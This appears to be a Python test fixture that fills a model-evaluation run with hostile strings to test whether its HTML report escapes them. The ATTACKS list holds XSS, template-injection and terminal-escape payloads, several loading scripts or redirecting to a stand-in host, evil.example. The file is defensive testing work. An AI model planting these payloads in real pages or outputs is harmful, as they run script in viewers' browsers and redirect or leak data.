"""A small run in a folder, and the same with hostile texts, for tests of its page."""

from __future__ import annotations

import io
from html.parser import HTMLParser
from pathlib import Path

import pyarrow as pa
from rich.console import Console

from engine.metrics.monitor import Monitor
from engine.report.render import write_report
from engine.report.run_data import read_run
from engine.schema import COMPLETIONS, SCORES
from engine.store.run import RunStore
from tests.runs import fake_config, finished

ATTACKS = (
    "<script>alert(1)</script>",
    "</pre></div><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</title><script>alert(1)</script>",
    "</style><style>@import url(//evil.example)</style>",
    '<a href="javascript:alert(1)">click</a>',
    "<form action=//evil.example><input name=q></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!-- --><base href=//evil.example>",
    "{{ 7 * 7 }}{% for x in () %}{% endfor %}{{ s.__class__ }}",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x1b]0;owned\x07\x00\u202etxt.exe",
)
JUDGE = {
    "kind": "judge",
    "server": {"kind": "policy"},
    "prompt": str(Path(__file__).parents[3] / "recipes/judges/pairwise.txt"),
    "null_model": "Hello.",
}


class Page(HTMLParser):
    """The elements, attributes and text of a page."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.elements.append(("comment", {}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def tags(self) -> list[str]:
        return [tag for tag, _ in self.elements]


def judged_run(folder: Path) -> Path:
    """A finished run of two iterations whose policy is its own judge, so that every part of a page has content."""
    return finished(fake_config(folder, scorer=JUDGE))


def poisoned_run(folder: Path) -> Path:
    """The same with hostile texts in prompts, answers, verdicts and notes."""
    run = judged_run(folder)
    with RunStore(run) as store:
        for version in (0, 1, 2):
            _poison(store, version, "heldout_completions", COMPLETIONS)
        for iteration in (0, 1):
            _poison(store, iteration, "scores", SCORES)
    with Monitor(run, console=Console(file=io.StringIO())) as monitor:
        for attack in ATTACKS:
            monitor.note(f"warning: {attack}")
    return run


def _poison(store: RunStore, iteration: int, stage: str, schema: pa.Schema) -> None:
    for shard in store.shards(iteration, stage):
        rows = store.read(iteration, stage, shard, schema).to_pylist()
        for n, row in enumerate(rows):
            attacks = [ATTACKS[(n + k + shard) % len(ATTACKS)] for k in range(len(ATTACKS))]
            row["messages"] = [{"role": "user", "content": "\n".join(attacks)}]
            row["completions"] = attacks[: len(row["completions"])]
            for verdict in row.get("verdicts", []):
                verdict["text"] = attacks[-1]
        of = "version" if stage == "heldout_completions" else "iteration"
        store.commit(iteration, stage, shard, pa.Table.from_pylist(rows, schema), schema, of=of)


def page_of(run: Path) -> Path:
    """Write the report of a run folder; return its page."""
    return write_report(read_run(run))
